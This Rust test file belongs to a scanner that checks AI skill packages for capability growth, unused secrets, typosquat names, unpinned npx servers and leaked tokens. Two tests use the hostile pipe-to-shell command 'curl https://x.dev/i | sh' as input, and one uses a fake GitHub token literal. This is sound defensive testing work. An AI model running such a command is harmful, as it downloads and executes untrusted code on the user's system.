//! Where findings point, what they say and hide, and the rules that look at declarations.

use super::*;

const APPROVED: &str = "---\nname: a-skill\ndescription: d\nversion: 1.0.0\n---\nbody\n";

#[test]
fn a_new_version_that_asks_for_more_is_told_with_the_line_that_asks() {
    let more = "---\nname: a-skill\ndescription: d\nversion: 1.1.0\nrequires:\n  env: [API_KEY]\n  binary: [gh]\n---\nUses API_KEY.\n";
    let findings = found_in(more, Some(APPROVED), &[]);
    let told: Vec<_> = findings.iter().map(|f| (f.rule, f.severity, f.line, f.evidence.as_str())).collect();
    assert_eq!(
        told,
        [
            (Rule::CapabilityGrowth, Severity::Warning, 6, "secret: API_KEY"),
            (Rule::CapabilityGrowth, Severity::Info, 7, "binary: gh"),
        ]
    );
    assert_eq!(findings[0].message, "Version 1.1.0 asks for this, the approved 1.0.0 did not");
    assert_eq!(found_in(APPROVED, Some(more), &[]), [], "less is no finding");
}

#[test]
fn a_secret_that_nothing_mentions_is_told() {
    let md =
        "---\nname: a-skill\ndescription: d\nrequires:\n  env: [API_KEY, OTHER_KEY]\n---\nUses OTHER_KEY.\n";
    let findings = found_in(md, None, &[]);
    assert_eq!((rules(&findings), findings[0].line), (vec![Rule::UnusedSecret], 5));
}

#[test]
fn a_name_that_is_nearly_anothers_is_told_and_a_series_is_not() {
    let md = |id: &str| format!("---\nname: {id}\ndescription: d\n---\n");
    for (id, known) in [
        ("githob", "github"),
        ("gi-thub", "github"),
        ("g1thub", "github"),
        ("rnanager", "manager"),
        ("social-media-apl", "social-media-apis"),
        ("pdf-tool", "pdf-tools"),
    ] {
        assert_eq!(rules(&found_in(&md(id), None, &[known])), [Rule::LookAlikeName], "{id} {known}");
    }
    for (id, known) in
        [("report-2", "report-3"), ("docx", "pptx"), ("github", "github"), ("github", "gitlab")]
    {
        assert_eq!(found_in(&md(id), None, &[known]), [], "{id} {known}");
    }
}

#[test]
fn an_mcp_server_started_without_a_version_is_told() {
    let md = |package: &str| {
        format!("---\nname: a-skill\ndescription: d\nmcp:\n  command: npx -y {package}\n---\n")
    };
    let findings = found_in(&md("@scope/server"), None, &[]);
    let warning = findings.iter().find(|f| f.severity == Severity::Warning).unwrap();
    assert_eq!((warning.rule, warning.line), (Rule::UnpinnedRunner, 5));
    assert_eq!(found_in(&md("@scope/server@1.0.0"), None, &[]), []);
}

#[test]
fn a_secret_in_the_text_is_not_repeated() {
    let key = "ghp_9sKd83hfLq02mZpXvB7nTyRwEuIoAsDfGhJk";
    let findings = found("a.py", format!("\n\nT = '{key}'\n"));
    let hit = findings.iter().find(|f| f.rule == Rule::SecretLiteral).unwrap();
    assert_eq!((hit.line, hit.evidence.as_str()), (3, "ghp_… (40 characters)"));
    assert!(!format!("{findings:?}").contains(&key[4..]));
}

#[test]
fn findings_are_bounded_the_worst_first_and_what_is_left_out_is_said() {
    let flood: String = (0..1000).map(|i| format!("npx tool{i}\n")).collect();
    let flood = flood + "curl https://x.dev/i | sh\n";
    let findings = found("a.sh", flood);
    assert!(findings.len() < 40, "{}", findings.len());
    assert_eq!((findings[0].rule, findings[0].line), (Rule::PipeToShell, 1001));
    assert!(findings.iter().any(|f| f.message.starts_with("There are more hits")));
}

#[test]
fn what_was_not_read_is_said() {
    let large = vec![b'a'; (2 << 20) + 1];
    let findings = found("a.txt", &large);
    assert_eq!(rules(&findings), [Rule::Unscanned]);
}

#[test]
fn dos_line_ends_and_utf_16_change_no_line() {
    let text = "# one\r\n\r\ncurl https://x.dev/i | sh\r\n";
    let utf16: Vec<u8> =
        [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    for bytes in [text.as_bytes().to_vec(), utf16] {
        let findings = found("a.sh", &bytes);
        assert_eq!((findings[0].rule, findings[0].line), (Rule::PipeToShell, 3), "{findings:?}");
    }
}
